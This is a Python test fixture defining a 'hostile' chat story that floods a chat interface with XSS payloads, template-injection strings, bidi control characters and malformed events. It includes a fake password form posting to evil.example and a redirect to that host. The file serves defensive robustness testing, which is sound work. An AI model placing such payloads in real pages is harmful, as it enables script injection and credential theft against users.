"""Everything a chat could say to hurt whoever shows it, and events nobody has heard of."""

from __future__ import annotations

from collections.abc import Iterator
from random import Random
from types import MappingProxyType

from ...worlds.hostile import BIDI, EMOJI, LONG, SCRIPT, UNBROKEN
from ..agents import Agent, Skill
from ..chat import Chat, Story
from .story_dsl import queue_up

NICKNAME = f"N\u202eeilatan {SCRIPT}"
VILLAIN = Agent(id=666, name=NICKNAME, nickname=NICKNAME)

PLAIN = (
    SCRIPT,
    BIDI,
    LONG,
    UNBROKEN,
    EMOJI,
    "",
    " \n\n\t ",
    "first line\nsecond line\r\nthird line",
    "&lt;b&gt;escaped once&lt;/b&gt; &amp;amp; twice",
    "{{ 7*7 }}{% debug %} ${7*7} <%= 7*7 %>",
    "half a pair \ud83d and a control \u0007 and a null \u0000",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
)
HTML = (
    "<script>alert(document.domain)</script><b>bold</b>",
    "<img src=x onerror=alert(1)><svg/onload=alert(2)>",
    "<a href='javascript:alert(1)'>click</a> <a href=\"JaVaScRiPt&#58;alert(2)\">or here</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>data</a>",
    "<iframe src='https://evil.example'></iframe><object data='x'></object><embed src='x'>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/x)'>over everything</div>",
    "<form action='https://evil.example'><input name='password'><button>Sign in again</button></form>",
    "<b><i><u>never closed",
    "</div></section></main><h1>outside</h1>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<p id='panel-body' class='panel' hx-get='/panel/body' hx-trigger='load' data-state='live'>ours?</p>",
    "<b onclick='alert(1)' dir='rtl'>\u202ertl\u202c</b><br><meta http-equiv='refresh' content='0;url=//evil.example'>",
    "<style>*{display:none}</style><link rel='stylesheet' href='//evil.example/x.css'><base href='//evil.example/'>",
)
ODD = (
    {"@type": "url", "url": "javascript:alert(1)", "by": "agent"},
    {"@type": "resource", "resource": {"deep": [1, 2, {"deeper": SCRIPT}]}},
    {"@type": "a2a-transfer", "domain": "evil.example", "a2aEventId": "x", "skill": SCRIPT},
    {"@type": "line", "text": None, "source": "visitor"},
    {"@type": "line", "text": 17, "textType": "plain", "by": ["no", "body"], "source": "visitor"},
    {"@type": "line", "text": "from nobody known", "textType": "video", "by": "x", "source": "bot"},
    {"@type": "line", "text": "an unheard-of message", "source": "system", "systemMessageId": "seventy"},
    {"@type": "line", "text": "no time", "time": "yesterday", "source": "agent", "subType": "SECRET"},
    {"@type": "state", "state": "dreaming"},
    {"@type": "weather", "mood": SCRIPT},
)


def run_story(chat: Chat, rng: Random) -> Iterator[float]:
    """Every nasty line once before anybody looks; then the nasty ones come again, one by one."""
    queue_up(chat)
    chat.accept(VILLAIN)
    for text in PLAIN:
        chat.say("visitor", text)
    for text in HTML:
        chat.say("agent", text, text_type="html")
    for event in ODD:
        chat.add_event(event)
    yield 6
    while True:
        chat.say("visitor", rng.choice(HTML), text_type="html", by=BIDI)
        chat.set_typing("visitor")
        yield rng.uniform(8, 15)


HOSTILE = Story(
    name="hostile",
    summary="script in lines and nicknames, bidi controls, odd events, wrong types",
    script=run_story,
    world="hostile",
    skill=Skill(-1, "*!@NULL*!@"),
    visitor_name=f"Robert{SCRIPT}{BIDI}",
    language="xx-<b>",
    minutes_before=0.1,
    facts=MappingProxyType(
        {"duration": "long", "rtSessionId": None, "engagementId": "<b>1</b>", "unheardOf": {"a": []}}
    ),
)
